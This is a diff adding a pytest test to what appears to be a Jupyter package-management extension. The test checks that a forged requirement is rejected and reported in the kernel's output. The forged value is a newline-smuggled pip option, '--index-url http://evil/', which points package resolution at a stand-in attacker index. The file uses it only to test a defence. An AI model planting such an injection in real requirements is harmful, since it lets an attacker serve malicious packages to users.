@@ -20,6 +20,7 @@ from bifrost_ext.requirements import content_hash
 from bifrost_ext.settings import SERVICE_SETTING
 from tests.api import call, current_dists, saved_rows
 from tests.cli import CLI, cli_env
+from tests.kernels import run_cell
 
 #: What the attacker stores: a pip option that would send every resolution to her index.
 FORGED = "--index-url http://evil/\nbfapp\n"
@@ -155,3 +156,27 @@ def test_each_way_past_the_validator_is_named(cli: CLI, database_url: str, conte
     forge(database_url, content)
     assert "fail validation" in cli("list", code=6)
     assert json.loads(cli("status", "--json", code=6))["saved_error"]
+
+
+@pytest.mark.usefixtures("jp_serverapp")
+async def test_the_magic_says_so_in_one_line_and_fails_its_cell(
+    jp_fetch: Any, jp_serverapp: Any, database_url: str
+) -> None:
+    status, _ = await call(jp_fetch, "install", {"packages": ["bfdemo==1.0"]})
+    assert status == 200
+    forge(database_url)
+    started = await jp_fetch("api", "kernels", method="POST", body=json.dumps({"name": "python3"}))
+    kernel = jp_serverapp.kernel_manager.get_kernel(json.loads(started.body)["id"])
+    # The kernel started with what it had, and its first output says why.
+    first = await run_cell(kernel, "pass")
+    assert "this kernel started with an earlier set of the workspace's packages" in first
+    assert f"fail validation (invalid requirement '--index-url http://evil/': {REASON}" in first
+    for command in ("list", "status"):
+        output = await run_cell(kernel, f"%bifrost {command}")
+        failing = [line for line in output.splitlines() if line.startswith("✗")]
+        assert len(failing) == 1, output
+        assert REASON in failing[0]
+        assert "`%bifrost install …` or a rollback replaces them" in failing[0]
+        assert output.splitlines()[-1] == f"BifrostError: %bifrost {command} failed"
+    # The kernel started without any of it: bfapp (the forged line) is not importable.
+    assert "ModuleNotFoundError" in await run_cell(kernel, "import bfapp")
